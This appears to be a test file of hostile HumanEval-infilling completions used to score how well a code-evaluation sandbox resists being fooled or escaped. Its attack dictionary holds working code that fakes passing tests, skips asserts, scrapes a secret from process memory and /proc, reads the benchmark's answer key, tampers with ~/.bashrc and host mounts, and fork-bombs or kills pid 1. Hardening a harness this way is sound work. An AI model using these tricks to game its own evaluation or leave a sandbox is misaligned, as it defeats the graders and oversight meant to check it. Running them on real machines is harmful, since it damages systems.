"""Hostile HumanEval-infilling samples: each one tries to pass without its tests returning, or to change
something outside the sandbox, or both. Used by tests/infill/test_eval_hostile.py, and runnable on its
own against whichever `infill` is importable, to measure a harness:

    PYTHONPATH=. python tests/hostile.py            # score of each attack, and what it changed outside

Every attack fills the hole of one task (`TASK`, whose hole is the first line of the body, a `return`)
with a single line that runs its code and then tries the old harness's way out (`os._exit(0)`), so an
attack scores 1 exactly when the harness can be fooled. The key-reading attack instead returns the
right answer, read from the benchmark's own files, so it scores 1 exactly when it could read them.
"""
from __future__ import annotations

import os
import socket
import sys
import uuid
from dataclasses import dataclass, field
from pathlib import Path

TASK = "SingleLineInfilling/HumanEval/2/L0"
"""truncate_number(number): the hole is the whole body, `return number % 1.0`."""

ESCAPE = "\nimport os as _os\n_os._exit(0)\n"

_FIND_TOKENS = r'''
import re
_hex = re.compile(rb"[0-9a-f]{64}")
def _tokens(objs):
    out = []
    for o in objs:
        if isinstance(o, str):
            o = o.encode("latin-1", "replace")
        if isinstance(o, (bytes, bytearray)) and _hex.fullmatch(bytes(o)):
            out.append(bytes(o))
    return out
def _claim(found):
    import os
    for tok in found[:1]:
        for fd in range(3, 64):
            try:
                os.write(fd, tok)  # after the wrapper's ready byte, the secret is all a pass needs
            except OSError:
                pass
'''

ATTACKS: dict[str, str] = {
    "os._exit(0)": "import os\nos._exit(0)\n",
    "sys.exit(0)": "import sys\nsys.exit(0)\n",
    "raise SystemExit(0)": "raise SystemExit(0)\n",
    "atexit handler os._exit(0), then a wrong answer": "import atexit, os\natexit.register(os._exit, 0)\n",
    "excepthook that exits 0, then an error": (
        "import os, sys, threading\nsys.excepthook = lambda *a: os._exit(0)\n"
        "threading.excepthook = lambda *a: os._exit(0)\nraise ValueError('wrong')\n"),
    "every marker on stdout, stderr and every fd": (
        "import json, os, sys\n"
        "for m in ('passed', 'PASSED', 'OK', 'ok', 'R', json.dumps({'status': 'passed', 'passed': True})):\n"
        "    print(m); sys.stderr.write(m + '\\n')\n"
        "sys.stdout.flush(); sys.stderr.flush()\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, b'R' + b'0' * 64)\n"
        "    except OSError: pass\n" + ESCAPE),
    "skip the asserts with a tracer": (
        "import sys, os\n"
        "def _t(frame, event, arg):\n"
        "    if frame.f_code.co_name == 'check' and event == 'line':\n"
        "        later = sorted(l for _, _, l in frame.f_code.co_lines() if l and l > frame.f_lineno)\n"
        "        try: frame.f_lineno = later[0]  # jump over this assert\n"
        "        except (IndexError, ValueError): os._exit(0)\n"
        "    if frame.f_code.co_name == 'check' and event == 'exception':\n"
        "        os._exit(0)\n"
        "    return _t\n"
        "RESULT.append(0.5)  # right for the first assert only; the tracer skips the others\n"
        "try:\n"
        "    sys.settrace(_t)\n    f = sys._getframe()\n"
        "    while f is not None and f.f_code.co_name != 'check':\n"
        "        f = f.f_back\n"
        "    f.f_trace = _t\n"
        "except BaseException: pass\n"),
    "frame walk to the wrapper's locals": _FIND_TOKENS + (
        "import sys\nfound = []\n"
        "def _walk(f):\n"
        "    while f is not None:\n"
        "        vals = list(f.f_locals.values()) + list(f.f_globals.values())\n"
        "        for v in list(vals):\n"
        "            for c in getattr(v, '__closure__', None) or ():\n"
        "                try: vals.append(c.cell_contents)\n"
        "                except ValueError: pass\n"
        "        found.extend(_tokens(vals))\n"
        "        f = f.f_back\n"
        "for get in (lambda: [sys._getframe()], lambda: [__import__('inspect').currentframe()],\n"
        "            lambda: [(lambda e: e.__traceback__.tb_frame)(_raise())],\n"
        "            lambda: list(sys._current_frames().values())):\n"
        "    try:\n"
        "        for f in get(): _walk(f)\n"
        "    except BaseException: pass\n"
        "def _raise():\n"
        "    try: 1 / 0\n"
        "    except ZeroDivisionError as e: return e\n"
        "def _gen():\n"
        "    yield g.gi_frame.f_back\n"
        "try:\n"
        "    g = _gen(); _walk(next(g))\n"
        "except BaseException: pass\n"
        "_claim(found)\n" + ESCAPE),
    "gc walk and module walk for the secret": _FIND_TOKENS + (
        "import gc, sys\nfound = []\n"
        "try: found += _tokens(gc.get_objects())\n"
        "except BaseException: pass\n"
        "try:\n"
        "    for o in gc.get_objects()[:100000]:\n"
        "        found += _tokens(gc.get_referents(o))\n"
        "except BaseException: pass\n"
        "for m in list(sys.modules.values()):\n"
        "    vals = list(vars(m).values())\n"
        "    for v in list(vals):\n"
        "        cl = getattr(v, '__closure__', None)\n"
        "        for c in cl if isinstance(cl, tuple) else ():\n"
        "            try: vals.append(c.cell_contents)\n"
        "            except ValueError: pass\n"
        "        d = getattr(v, '__defaults__', None)\n"
        "        vals += list(d) if isinstance(d, tuple) else []\n"
        "    found += _tokens(vals)\n"
        "found += _tokens(sys.argv + list(getattr(sys, 'orig_argv', [])))\n"
        "_claim(found)\n" + ESCAPE),
    "signal handler frame to the wrapper's locals": _FIND_TOKENS + (
        "import signal, time\nfound = []\n"
        "def _h(sig, f):\n"
        "    while f is not None:\n"
        "        found.extend(_tokens(list(f.f_locals.values()))); f = f.f_back\n"
        "try:\n"
        "    signal.signal(signal.SIGALRM, _h); signal.setitimer(signal.ITIMER_REAL, 0.01); time.sleep(0.2)\n"
        "except BaseException: pass\n"
        "_claim(found)\n" + ESCAPE),
    "a gc callback run on the wrapper's main thread, then a signal-handler frame": _FIND_TOKENS + (
        "import _thread, gc, os, signal, time\nfound = []\n"
        "def _h(sig, f):\n"
        "    while f is not None:\n"
        "        found.extend(_tokens(list(f.f_locals.values()))); f = f.f_back\n"
        "    if found:\n"
        "        _claim(found); os._exit(0)\n"
        "def _cb(phase, info):\n"
        "    if _thread.get_ident() == me:\n"
        "        return\n"
        "    try:\n"
        "        signal.signal(signal.SIGALRM, _h); signal.setitimer(signal.ITIMER_REAL, 0.001)\n"
        "        t = time.monotonic()\n"
        "        while time.monotonic() - t < 0.3: pass\n"
        "    except BaseException: pass\n"
        "me = _thread.get_ident()\n"
        "gc.callbacks.append(_cb)\n"
        "gc.set_threshold(1)\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})  # so that SIGINT goes to the main thread\n"
        "os.kill(os.getpid(), signal.SIGINT)  # it wakes, raises, allocates, collects: the callback runs there\n"
        "time.sleep(1)\n" + ESCAPE),
    "read /proc/self/mem (direct and by dir_fd) for the secret": _FIND_TOKENS + (
        "import os, re\nfound = []\n"
        "def _scan(open_rel):\n"
        "    maps = open_rel('self/maps').read().decode().splitlines()\n"
        "    mem = open_rel('self/mem')\n"
        "    for line in maps:\n"
        "        lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if 'r' not in line.split()[1] or hi - lo > 2**28: continue\n"
        "        try:\n"
        "            mem.seek(lo); found.extend(_hex.findall(mem.read(hi - lo)))\n"
        "        except OSError: pass\n"
        "for opener in (lambda p: open('/proc/' + p, 'rb', buffering=0),\n"
        "               lambda p: os.fdopen(os.open('proc/' + p, os.O_RDONLY, dir_fd=os.open('/', os.O_RDONLY)), 'rb', buffering=0),\n"
        "               lambda p: os.fdopen(os.open(p, os.O_RDONLY, dir_fd=os.open('/proc', os.O_RDONLY)), 'rb', buffering=0)):\n"
        "    try: _scan(opener)\n"
        "    except BaseException: pass\n"
        "_claim(found)\n" + ESCAPE),
    "a fresh interpreter reads the wrapper's memory": (
        "import os, sys\n"
        "code = ('import re,os\\nfor pid in os.listdir(\"/proc\"):\\n'\n"
        "        ' try:\\n  maps=open(\"/proc/%s/maps\"%pid).read().splitlines(); mem=open(\"/proc/%s/mem\"%pid,\"rb\")\\n'\n"
        "        '  for l in maps:\\n   lo,hi=(int(x,16) for x in l.split()[0].split(\"-\"))\\n'\n"
        "        '   try:\\n    mem.seek(lo); t=re.findall(rb\"[0-9a-f]{64}\",mem.read(hi-lo))\\n'\n"
        "        '    [os.write(fd,b\"R\"+t[0]) for fd in range(3,64) if t and not os.path.isdir(\"/proc/self/fd/%d\"%fd)]\\n'\n"
        "        '   except Exception: pass\\n except Exception: pass\\n')\n"
        "exe = sys.executable or '/usr/bin/python3'\n"
        "for run in (lambda: os.system(repr(exe) + ' -c ' + repr(code)),\n"
        "            lambda: __import__('subprocess').run([exe, '-c', code]),\n"
        "            lambda: os.posix_spawn(exe, [exe, '-c', code], {}),\n"
        "            lambda: os.fork() == 0 and os.execv(exe, [exe, '-c', code])):\n"
        "    try: run()\n"
        "    except BaseException: pass\n"
        "import time; time.sleep(0.5)\n" + ESCAPE),
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
    "infinite loop": "while True:\n    pass\n",
    "kill the parent, pid 1 and everything": (
        "import os, signal\n"
        "for pid in (os.getppid(), 1, -1):\n"
        "    try: os.kill(pid, signal.SIGKILL)\n"
        "    except OSError: pass\n" + ESCAPE),
}
"""Attacks that need nothing from the test's machine; `machine_attacks` adds those that do."""


@dataclass
class Machine:
    """What the machine-dependent attacks aim at, and how to tell afterwards whether they got there."""

    home: Path
    outside: Path
    mark: str = field(default_factory=lambda: f"infill-pwned-{uuid.uuid4().hex[:12]}")
    listeners: list[socket.socket] = field(default_factory=list)
    socket_paths: list[str] = field(default_factory=list)
    mounts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.mounts = host_mounts()
        for path in (str(self.outside / "listener.sock"), f"/run/lock/{self.mark}.sock", "\0" + self.mark):
            try:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.bind(path)
                if not path.startswith("\0"):
                    os.chmod(path, 0o777)  # a service that takes anyone's connection
                s.listen(8)
                s.setblocking(False)
            except OSError:
                continue
            self.listeners.append(s)
            self.socket_paths.append(path)

    def write_targets(self) -> list[str]:
        dirs = [str(self.home), str(self.outside), "/tmp", "/var/tmp", "/dev/shm", "/root", "/run/lock",
                str(Path(__file__).resolve().parent), *self.mounts]
        return [os.path.join(d, self.mark) for d in dict.fromkeys(dirs)]

    def changed(self) -> list[str]:
        """What the attacks left outside: files they made, connections they got through."""
        left = [p for p in self.write_targets() if os.path.lexists(p)]
        left += [str(self.home / n) for n in os.listdir(self.home)]
        bashrc = self.home / ".bashrc"
        if bashrc.exists():
            left.append(str(bashrc))
        for s, path in zip(self.listeners, self.socket_paths):
            try:
                conn, _ = s.accept()
                conn.close()
                left.append(f"unix socket {path!r} got a connection")
            except BlockingIOError:
                pass
        return left

    def clean(self) -> None:
        for p in self.write_targets():
            try:
                os.remove(p)
            except OSError:
                pass
        for s, path in zip(self.listeners, self.socket_paths):
            s.close()
            if not path.startswith("\0"):
                try:
                    os.remove(path)
                except OSError:
                    pass


def host_mounts() -> list[str]:
    """Mount points of the host (this process's view), where a write must never land."""
    try:
        lines = Path("/proc/self/mountinfo").read_text().splitlines()
    except OSError:
        return []
    return sorted({line.split()[4] for line in lines})


def machine_attacks(m: Machine) -> dict[str, str]:
    from infill.benchmarks import DATA_DIR

    keys = [str(DATA_DIR), "/work/shared/benchmarks/humaneval-infilling", str(Path(sys.prefix)),
            str(Path(__file__).resolve().parents[1])]
    return {
        "write into $HOME, ~/.bashrc and every mount": (
            "import os\n"
            f"for p in {m.write_targets()!r}:\n"
            "    try:\n"
            "        with open(p, 'w') as f: f.write('x')\n"
            "    except OSError: pass\n"
            f"for p in (os.path.expanduser('~/.bashrc'), {str(m.home / '.bashrc')!r}):\n"
            "    try:\n"
            "        with open(p, 'a') as f: f.write('echo pwned\\n')\n"
            "    except OSError: pass\n" + ESCAPE),
        "connect to a host Unix socket": (
            "import socket\n"
            f"for p in {m.socket_paths!r}:\n"
            "    try:\n"
            "        s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(p); s.sendall(b'pwned')\n"
            "    except OSError: pass\n" + ESCAPE),
        "read the benchmark files for the answer": (
            "import glob, gzip, json, os\n"
            "def found(files):\n"
            "    for f in files:\n"
            "        try:\n"
            "            for line in gzip.open(f, 'rt'):\n"
            "                t = json.loads(line)\n"
            f"                if t['task_id'] == {TASK!r}:\n"
            "                    ns = {}\n"
            "                    exec(t['prompt'] + t['canonical_solution'] + t['suffix'], ns)\n"
            "                    RESULT.append(ns[t['entry_point']](**ARGS))\n"
            "                    return True\n"
            "        except Exception: pass\n"
            f"if not found(f for d in {keys!r} for f in glob.glob(os.path.join(d, '**', '*Infilling.jsonl.gz'), recursive=True)):\n"
            "    found(os.path.join(r, n) for r, _, ns in os.walk('/') for n in ns if n.endswith('Infilling.jsonl.gz'))\n"),
    }


def completion(code: str) -> str:
    """One line of the hole that runs `code` and returns what it put in RESULT (the right answer only
    when it got the answer key)."""
    return (f"    return (lambda R, A: (exec({code!r}, {{'ARGS': A, 'RESULT': R}}), (R or [None])[0])[1])"
            "([], dict(locals()))\n")


def memory_bomb(children: int = 6, mb: int = 100) -> str:
    """A program whose forked children each touch `mb` MB and wait: the sum is what a per-sample
    limit must stop; each child alone is under a per-process one."""
    return (f"import os, time\npids = []\nfor _ in range({children}):\n    pid = os.fork()\n    if pid == 0:\n"
            f"        b = bytearray({mb} * 2**20)\n        for i in range(0, len(b), 4096):\n            b[i] = 1\n"
            "        time.sleep(5)\n        os._exit(0)\n    pids.append(pid)\nfor pid in pids:\n"
            "    try: os.waitpid(pid, 0)\n    except OSError: pass\nos._exit(0)\n")


def main() -> None:
    """Score each attack with the `infill` on the path; print a Markdown table."""
    import tempfile
    import time

    from infill.benchmarks import load_humaneval_infilling
    from infill.evaluate import humaneval
    from infill.evaluate.sandbox import SandboxConfig, run_program

    task = next(t for t in load_humaneval_infilling("single-line") if t["task_id"] == TASK)
    with tempfile.TemporaryDirectory() as d:
        home, outside = Path(d, "home"), Path(d, "outside")
        home.mkdir()
        outside.mkdir()
        os.environ["HOME"] = str(home)
        m = Machine(home, outside)
        print("| attack | score | changed outside | seconds |\n|---|---:|---|---:|")
        try:
            for name in [*ATTACKS, *machine_attacks(m)]:
                code = {**ATTACKS, **machine_attacks(m)}[name]
                started = time.monotonic()
                s = humaneval.score([(task, [completion(code)])], None, sandbox=SandboxConfig(timeout_s=3.0),
                                    progress=False)
                changed = m.changed()
                m.clean()
                m = Machine(home, outside)
                print(f"| {name} | {s['pass@1']:g} | {', '.join(changed) or 'nothing'} | "
                      f"{time.monotonic() - started:.1f} |", flush=True)
            res = run_program(memory_bomb(), SandboxConfig(timeout_s=10, memory_mb=200))
            peak = getattr(res, "memory_peak_bytes", None)
            print(f"| memory bomb: 6 forked children x 100 MB, limit 200 MB | {int(res.passed)} | peak "
                  f"{'not measured' if peak is None else f'{peak / 2**20:.0f} MB'} | {res.seconds:.1f} |")
        finally:
            m.clean()


if __name__ == "__main__":
    main()
